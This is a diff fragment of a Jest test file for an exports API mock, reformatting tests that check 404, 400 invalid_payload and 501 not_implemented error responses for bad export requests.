 describe('exports: errors', () => {
   test('an unknown export answers 404 with the service body', async () => {
-    const { error, response } = await client().GET('/v1/exports/{exportId}', { params: { path: { exportId: 'exp_missing' } } });
+    const { error, response } = await client().GET('/v1/exports/{exportId}', {
+      params: { path: { exportId: 'exp_missing' } },
+    });
     expect(response.status).toBe(404);
-    expect(error).toMatchObject({ code: 404, key: 'not_found', message: 'Resource not found', resource_type: 'export', resource_id: 'exp_missing' });
+    expect(error).toMatchObject({
+      code: 404,
+      key: 'not_found',
+      message: 'Resource not found',
+      resource_type: 'export',
+      resource_id: 'exp_missing',
+    });
   });
 
   test('an unknown exported_object answers 400 invalid_payload listing the objects', async () => {
-    const { status, body } = await errorOf(await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'coupons' }) }));
+    const { status, body } = await errorOf(
+      await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'coupons' }) }),
+    );
     expect(status).toBe(400);
-    expect(body).toMatchObject({ key: 'invalid_payload', details: expect.stringContaining('Property .exported_object should be one of: voucher, redemption, customer, publication, order') });
+    expect(body).toMatchObject({
+      key: 'invalid_payload',
+      details: expect.stringContaining(
+        'Property .exported_object should be one of: voucher, redemption, customer, publication, order',
+      ),
+    });
   });
 
-  test('an unknown column answers 400 invalid_payload naming it and the object\'s columns', async () => {
-    const { status, body } = await errorOf(await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'order', parameters: { fields: ['id', 'colour'] } }) }));
+  test("an unknown column answers 400 invalid_payload naming it and the object's columns", async () => {
+    const { status, body } = await errorOf(
+      await raw('/v1/exports', {
+        method: 'POST',
+        body: JSON.stringify({ exported_object: 'order', parameters: { fields: ['id', 'colour'] } }),
+      }),
+    );
     expect(status).toBe(400);
     expect(body['key']).toBe('invalid_payload');
     expect(body['details']).toMatch(/^Property \.parameters\.fields\[1\] should be one of: id, source_id, created_at/);
@@ -599,16 +865,45 @@ describe('exports: errors', () => {
   });
 
   test('a filter on a field the object does not have, or with an unknown operator, answers 400 invalid_payload', async () => {
-    const field = await errorOf(await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'order', parameters: { filters: { colour: { conditions: { $is: ['red'] } } } } }) }));
-    expect(field).toMatchObject({ status: 400, body: { key: 'invalid_payload', details: expect.stringContaining('.parameters.filters.colour') } });
-    const operator = await errorOf(await raw('/v1/exports', { method: 'POST', body: JSON.stringify({ exported_object: 'voucher', parameters: { filters: { code: { conditions: { $iz: ['A'] } } } } }) }));
-    expect(operator).toMatchObject({ status: 400, body: { key: 'invalid_payload', details: 'Property .parameters.filters.code.conditions should have at least one operator' } });
+    const field = await errorOf(
+      await raw('/v1/exports', {
+        method: 'POST',
+        body: JSON.stringify({
+          exported_object: 'order',
+          parameters: { filters: { colour: { conditions: { $is: ['red'] } } } },
+        }),
+      }),
+    );
+    expect(field).toMatchObject({
+      status: 400,
+      body: { key: 'invalid_payload', details: expect.stringContaining('.parameters.filters.colour') },
+    });
+    const operator = await errorOf(
+      await raw('/v1/exports', {
+        method: 'POST',
+        body: JSON.stringify({
+          exported_object: 'voucher',
+          parameters: { filters: { code: { conditions: { $iz: ['A'] } } } },
+        }),
+      }),
+    );
+    expect(operator).toMatchObject({
+      status: 400,
+      body: {
+        key: 'invalid_payload',
+        details: 'Property .parameters.filters.code.conditions should have at least one operator',
+      },
+    });
   });
 
   test('an object whose area has not registered a source answers 501 not_implemented', () => {
     const sources = new ExportSources(new TrackedState(new StateHistory()));
     expect(() => sources.plan('redemption', {}, 0)).toThrow(
-      expect.objectContaining({ status: 501, key: 'not_implemented', extras: { details: 'Exports of redemption are in the spec but not implemented by the mock yet.' } }),
+      expect.objectContaining({
+        status: 501,
+        key: 'not_implemented',
+        extras: { details: 'Exports of redemption are in the spec but not implemented by the mock yet.' },
+      }),
     );
   });
 
